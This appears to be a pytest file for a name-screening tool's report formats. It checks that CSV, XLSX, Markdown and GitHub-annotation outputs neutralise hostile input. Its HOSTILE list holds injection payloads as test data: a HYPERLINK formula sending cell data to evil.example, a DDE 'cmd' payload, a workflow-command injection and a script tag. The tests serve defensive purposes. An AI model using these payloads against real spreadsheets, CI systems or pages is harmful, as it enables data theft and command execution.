"""Every output format: each input row comes out (in order), hostile names are escaped for
the format, spreadsheet cells cannot run as formulas, and the formats agree."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest

from screen.report.batch import FORMATS

HOSTILE = [
    "Xinjiang Police College",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "<script>alert('x')</script> | **bold** [link](http://x)",
    "Xinjiang Police College\n::error::injected %0A command",
    "Bell\x07 and NUL\x00 and tab\there",
    "X" * 10_000,
    "",
    "Police Scotland",
]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    f = tmp_path / "hostile.jsonl"  # JSON Lines carries every character, newlines included
    f.write_text("".join(json.dumps({"name": n}) + "\n" for n in HOSTILE), encoding="utf-8")
    return f


def render(run, path: Path, fmt: str, tmp_path: Path, *extra: str) -> Path:
    out = tmp_path / f"out.{fmt}"
    r = run("screen", str(path), "--format", fmt, "-o", str(out), "--no-register", *extra)
    assert r.exit_code == 1, r.output
    return out


def test_json_and_jsonl_keep_every_row_exactly(run, hostile, tmp_path):
    doc = json.loads(render(run, hostile, "json", tmp_path).read_text(encoding="utf-8"))
    assert [r["row"] for r in doc["results"]] == list(range(1, len(HOSTILE) + 1))
    assert [r["input"] for r in doc["results"]] == [n.strip() or None for n in HOSTILE]
    lines = render(run, hostile, "jsonl", tmp_path).read_text(encoding="utf-8").splitlines()
    recs = [json.loads(x) for x in lines]
    assert [r["type"] for r in recs] == ["run"] + ["row"] * len(HOSTILE) + ["summary"]
    assert [r["input"] for r in recs[1:-1]] == [r["input"] for r in doc["results"]]
    assert recs[-1]["rows"] == len(HOSTILE) == doc["summary"]["rows"]
    skipped = {r["row"]: r["reason"] for r in doc["results"] if r["status"] == "skipped"}
    assert skipped == {8: "name holds a NUL byte", 9: "name longer than 1000 characters (10000); not screened",
                       10: "empty name"}


def test_csv_neutralises_formulas_and_keeps_every_row(run, hostile, tmp_path):
    text = render(run, hostile, "csv", tmp_path).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [int(r["row"]) for r in rows] == list(range(1, len(HOSTILE) + 1))
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[1]["input"] == "'" + HOSTILE[1] and rows[3]["input"] == "'-2+3" and rows[4]["input"] == "'@SUM(1,2)"
    assert rows[0]["status"] == "match" and rows[0]["best_name"] == "Xinjiang Police College"


def test_xlsx_cells_are_text_never_formulas(run, hostile, tmp_path):
    wb = openpyxl.load_workbook(render(run, hostile, "xlsx", tmp_path))
    assert wb.sheetnames == ["Summary", "Results", "Hits", "Lists"]
    ws = wb["Results"]
    values = list(ws.iter_rows(min_row=2, values_only=True))
    assert [v[1] for v in values] == list(range(1, len(HOSTILE) + 1))
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.value
            if isinstance(c.value, str):
                assert not c.value.startswith(("=", "+", "-", "@")), c.value
    assert values[1][3] == "'" + HOSTILE[1]
    assert "\ufffd" in values[7][3]  # the bell and NUL, which XML cannot hold
    summary = dict(wb["Summary"].iter_rows(values_only=True))
    assert summary["rows"] == len(HOSTILE) and summary["match"] == 1
    hits = list(wb["Hits"].iter_rows(min_row=2, values_only=True))
    assert hits[0][8] == "Xinjiang Police College" and hits[0][13]  # with its explanation


def test_junit_has_one_case_per_row(run, hostile, tmp_path):
    root = ET.parse(render(run, hostile, "junit", tmp_path)).getroot()
    cases = root.findall("./testsuite/testcase")
    assert len(cases) == len(HOSTILE) == int(root.get("tests"))
    assert root.get("failures") == "1" and root.get("skipped") == "3"
    assert cases[0].find("failure").get("type") == "match"
    assert cases[5].get("name") == "row 6: " + HOSTILE[5]
    assert cases[9].find("skipped").get("message") == "empty name"
    # --fail-on match makes review rows pass: they are not failures
    root = ET.parse(render(run, hostile, "junit", tmp_path, "--fail-on", "match")).getroot()
    assert root.get("failures") == "1"


def test_github_annotations_cannot_be_injected(run, hostile, tmp_path):
    text = render(run, hostile, "github", tmp_path).read_text(encoding="utf-8")
    lines = text.splitlines()
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in lines), lines
    assert lines[0].startswith(f"::error file={tmp_path / 'hostile.jsonl'},line=1,title=hrdd%3A row 1 match::")
    assert sum(1 for x in lines if x.startswith("::warning ") and "not screened" in x) == 3
    assert not any(x.startswith("::error::injected") for x in lines)
    assert lines[-1] == f"::notice title=hrdd screen::{len(HOSTILE)} rows: 1 match, 0 review, 7 clear, 3 skipped"


def test_workflow_command_escaping():
    from screen.report.escape import gh_data, gh_property

    assert gh_data("a\n::error::b %0A\r") == "a%0A::error::b %250A%0D"
    assert gh_property("x,line=9:y\n") == "x%2Cline=9%3Ay%0A"


def test_markdown_escapes_every_name(run, hostile, tmp_path):
    text = render(run, hostile, "markdown", tmp_path).read_text(encoding="utf-8")
    assert "<script>" not in text and "&lt;script&gt;" in text
    assert "\\*\\*bold\\*\\* \\[link\\](http://x)" in text
    table = [x for x in text.splitlines() if x.startswith("| ") and "hostile.jsonl" in x]
    assert len(table) == len(HOSTILE)
    assert all(x.count(" | ") == 5 for x in table)  # no name adds a cell


def test_table_prints_every_row_as_text(run, hostile, tmp_path):
    text = render(run, hostile, "table", tmp_path).read_text(encoding="utf-8")
    assert "<script>alert('x')</script>" in text  # printed as text, not interpreted as markup
    rows = [int(m.group(1)) for m in re.finditer(r"^\s+(\d+)\s+(?:match|review|clear|skipped)", text, re.M)]
    assert rows == list(range(1, len(HOSTILE) + 1))
    assert text.rstrip().endswith(f"{len(HOSTILE)} rows: 1 match, 0 review, 7 clear, 3 skipped")


def test_every_format_is_tested():
    tested = {name.split("_")[1] for name in globals() if name.startswith("test_")}
    assert set(FORMATS) <= tested | {"jsonl"}, set(FORMATS) - tested
